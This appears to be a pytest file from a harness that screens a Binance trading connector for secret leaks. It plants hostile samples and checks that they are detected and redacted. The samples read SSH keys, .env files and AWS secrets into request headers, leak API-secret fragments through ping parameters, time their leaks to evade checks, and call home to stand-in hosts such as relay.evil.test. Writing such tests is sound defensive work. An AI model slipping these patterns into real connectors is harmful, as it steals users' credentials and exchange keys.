"""Carrying keys out of the sandbox, from inside a real connector.

The released binance connector with a thief in it, before the checks that a screening runs.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from rich.console import Console

from checks.conformance import test_security as checks
from demo.prepare import prepare
from harness.checking import Failed
from harness.checking.observers import leaks
from harness.commands.check import check_work_tree
from harness.paths import cache_dir
from harness.scenarios.catalogue import HOUR, LISTING, MARKET_DATA, OUTAGE, TRADING
from harness.scenarios.scenario import Scenario
from harness.scenarios.trace.codec import written
from tests.hostile.attack import attack
from tests.hostile.leaking import leaked
from tests.world import git
from tests.zoo.defect import AUTH, EXCHANGE, UTILS, Defect, defect
from tests.zoo.keeping import PACE, Zoo
from tests.zoo.planting import behaving, rewritten


def spoilt(name: str, file: str, owner: str, members: str) -> Defect:
    return defect(name, checks.test_only_declared_hosts, "", behaving(file, owner, members))


def finding(zoo: Zoo, bad: Defect, check: Callable[..., None], *scenarios: Scenario[Any]) -> Failed:
    """What the check found in these scenarios; nothing of a secret is in it, nor in any trace."""
    with zoo.bad(bad) as specimen:
        with pytest.raises(Failed) as found:
            specimen.look(check, *scenarios)
        for trace in specimen.player.played():
            kept = "\n".join(json.dumps(written(entry, str)) for entry in trace.entries)
            assert specimen.rigs.canaries.redact(kept) == kept, trace.title
        told = found.value.summary + "".join(each.model_dump_json() for each in found.value.evidence)
        assert specimen.rigs.canaries.redact(told) == told
    assert found.value.evidence
    return found.value


@attack(
    "calls home only when its exchange is down for maintenance",
    meets="every scenario counts: the finding names the host and the scenario",
)
def test_a_call_home_in_one_scenario_only(zoo: Zoo) -> None:
    bad = spoilt(
        "calls-home-in-need",
        EXCHANGE,
        "BinanceExchange",
        """
        async def _api_request(self, *args, **kwargs):
            import socket

            try:
                return await super()._api_request(*args, **kwargs)
            except Exception as error:
                if "maintenance" in str(error):
                    socket.getaddrinfo("relay.evil.test", 443)
                raise
        """,
    )
    found = finding(zoo, bad, checks.test_only_declared_hosts, LISTING, OUTAGE)
    assert (
        "tried to reach relay.evil.test, which is not declared (scenario: take exchange away)"
        in found.summary
    )
    assert found.evidence[0].data["scenario"] == "take exchange away"


@attack(
    "waits for the fortieth minute of an hour of market making, and sends its secret then",
    meets="every scenario counts, the longest too: what was seen in it is searched like any other",
)
@pytest.mark.full  # an hour of market making
def test_a_leak_in_the_fortieth_minute(zoo: Zoo) -> None:
    bad = spoilt(
        "leaks-late",
        EXCHANGE,
        "BinanceExchange",
        """
        async def _status_polling_loop_fetch_updates(self):
            await super()._status_polling_loop_fetch_updates()
            began = self.__dict__.setdefault("_began", self.current_timestamp)
            if self.current_timestamp - began > 40 * 60 and not self.__dict__.get("_done"):
                self._done = True
                await self._api_get(path_url="/ping", params={"session": self.secret_key})
        """,
    )
    with zoo.bad(bad) as specimen:
        hour = specimen.player.trace(HOUR, PACE)
        assert leaks(hour), "it never came to the fortieth minute"
        beginning = hour.parts[-1].began.at
        assert all(each.at - beginning > 40 * 60 for each in leaks(hour))
        with pytest.raises(Failed, match=r"secret .* left the connector .*scenario: make markets"):
            specimen.check(checks.test_secrets_never_leave)


@attack(
    "waits for a moment when no scenario is running, and looks a name up then",
    meets="a gateway that serves nobody listens between the scenarios",
)
def test_a_call_home_between_the_scenarios(zoo: Zoo) -> None:
    watcher = """
import os, socket, threading, time
def _scenarios():
    found = 0
    for name in filter(str.isdigit, os.listdir("/proc")):
        try: found += int(open("/proc/%s/stat" % name).read().rpartition(")")[2].split()[1]) == os.getpid()
        except OSError: pass
    return found
def _watch():
    seen = alone = 0
    for _ in range(100000):
        now = _scenarios()
        seen += now
        alone = 0 if now or not seen else alone + 1
        if alone > 20:
            socket.getaddrinfo("idle.evil.test", 443)
            return
        time.sleep(0.01)
threading.Thread(target=_watch, daemon=True).start()
"""
    bad = defect(
        "calls-home-unwatched",
        checks.test_only_declared_hosts,
        "",
        rewritten(UTILS, lambda source: source + watcher),
    )
    with zoo.bad(bad) as specimen:
        specimen.player.trace(LISTING, PACE)
        between = specimen.rigs.between
        assert between.wait_for(between.lookups, 30)
        told = r"idle\.evil\.test, which is not declared \(scenario: between scenarios\)"
        with pytest.raises(Failed, match=told):
            specimen.look(checks.test_only_declared_hosts)


@attack(
    "takes the keys it finds in its home and its environment, and sends them to its exchange",
    meets="they are honeytokens, searched for in all that leaves: a blocker that names the file",
)
@pytest.mark.parametrize("loot", ["~/.ssh/id_ed25519", "~/.env", "$AWS_SECRET_ACCESS_KEY"])
def test_a_thief_of_files(zoo: Zoo, loot: str) -> None:
    bad = spoilt(
        f"thief-{len(loot)}",
        AUTH,
        "BinanceAuth",
        f"""
        def header_for_authentication(self):
            import os

            loot = os.path.expandvars(os.path.expanduser({loot!r}))
            text = open(loot).read() if os.path.exists(loot) else loot
            return {{**super().header_for_authentication(), "X-Trace": text.encode().hex()[:3000]}}
        """,
    )
    found = finding(zoo, bad, checks.test_secrets_never_leave, MARKET_DATA, TRADING)
    assert f"The file or variable honeytoken {loot} left the connector (header X-Trace" in found.summary


@attack(
    "leaks once, in the first seconds of its life, and behaves from then on",
    meets="a leak counts at whatever pace and in whichever try it was seen",
)
def test_a_leak_that_happens_once(zoo: Zoo) -> None:
    bad = spoilt(
        "leaks-once",
        EXCHANGE,
        "BinanceExchange",
        """
        async def _make_network_check_request(self):
            import os

            mark = "/tmp/work/done"
            # What stands before the piece must not be what stands before it in the secret.
            beside = "q" if self.secret_key[19] in "rR" else "r"
            if not os.path.exists(mark):
                await self._api_get(path_url=CONSTANTS.PING_PATH_URL, params={beside: self.secret_key[20:40]})
                open(mark, "w").close()
            await super()._make_network_check_request()
        """,
    )
    found = finding(zoo, bad, checks.test_secrets_never_leave, MARKET_DATA, TRADING)
    assert "The secret binance_api_secret left the connector (url to api.binance.com" in found.summary
    assert found.evidence[0].data["spelling"] == "plain, 20 of 64 characters"


BLABBING = """

import base64, os
class BinanceExchange(BinanceExchange):
    async def _make_network_check_request(self):
        said = base64.b64encode(self.secret_key.encode()).decode()
        self.logger().warning(f"cannot use the key {said}")
        await self._api_get(path_url=CONSTANTS.PING_PATH_URL, params={"k": self.secret_key[:30]})
        await super()._make_network_check_request()
    def get_order_book(self, trading_pair):
        raise ValueError(f"no book for {self.secret_key.encode().hex()}")
    def get_fee(self, *args, **kwargs):
        raise RuntimeError(open(os.path.expanduser("~/.ssh/id_ed25519")).read())
    @property
    def trading_rules(self):
        raise KeyError(self.secret_key)
"""
# Runs in the process of the checks before anything else, and keeps a list of the secrets it makes up.
SPY_ON_SECRETS = """
import os, sys
def keep(module, name):
    make = getattr(module, name)
    def kept(length):
        value = make(length)
        with open(os.environ["SPY_ON_SECRETS"], "a") as file: file.write(value + "\\n")
        return value
    setattr(module, name, kept)
if "--plan" in sys.orig_argv:
    import harness.scenarios.honeytokens, harness.venue.session
    keep(harness.scenarios.honeytokens, "_random"); keep(harness.venue.session, "_token")
"""


@attack(
    "says its keys in its log, its errors and its requests, so that the report publishes them",
    meets="every outcome is redacted before it is written: no published file holds a piece of a secret",
)
def test_a_report_as_the_leak(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    round_file, fork = prepare(cache_dir()), tmp_path / "fork"
    git(tmp_path, "clone", "-q", str(round_file.parent / "forks" / "binance.git"), str(fork))
    source = fork / "hummingbot/connector/exchange/binance/binance_exchange.py"
    source.write_text(source.read_text(encoding="utf-8") + BLABBING, encoding="utf-8")
    (tmp_path / "site").mkdir()
    (tmp_path / "site" / "sitecustomize.py").write_text(SPY_ON_SECRETS)
    monkeypatch.setenv("PYTHONPATH", str(tmp_path / "site"))
    monkeypatch.setenv("SPY_ON_SECRETS", str(tmp_path / "kept"))
    verdict = check_work_tree(
        fork,
        connector=None,
        select="secrets or book",
        round_file=round_file,
        upstream=None,
        exchange=None,
        derived=False,
        ccxt=None,
        descriptions=tmp_path / "descriptions",
        replay=None,
        live=None,
        sandbox="auto",
        reports=tmp_path / "reports",
        seed=1,
        scale=PACE,
        console=Console(quiet=True),
    )
    assert verdict is None, "a part of the checks gives none"
    kept = set((tmp_path / "kept").read_text().split())
    assert all(leaked(f"it said {each.encode().hex()}", each) for each in kept)
    published = [path for path in (tmp_path / "reports").rglob("*") if path.is_file()]
    texts = {path.name: path.read_text(encoding="utf-8", errors="replace") for path in published}
    ended = {found["requirement"]: found["status"] for found in json.loads(texts["report.json"])["outcomes"]}
    assert "failed" in {ended["secrets-stay-inside"], ended["secrets-not-logged"]}
    assert "no book for ‹binance_api_secret›" in texts["index.html"]
    assert {name for name, text in texts.items() for each in kept if leaked(text, each)} == set()
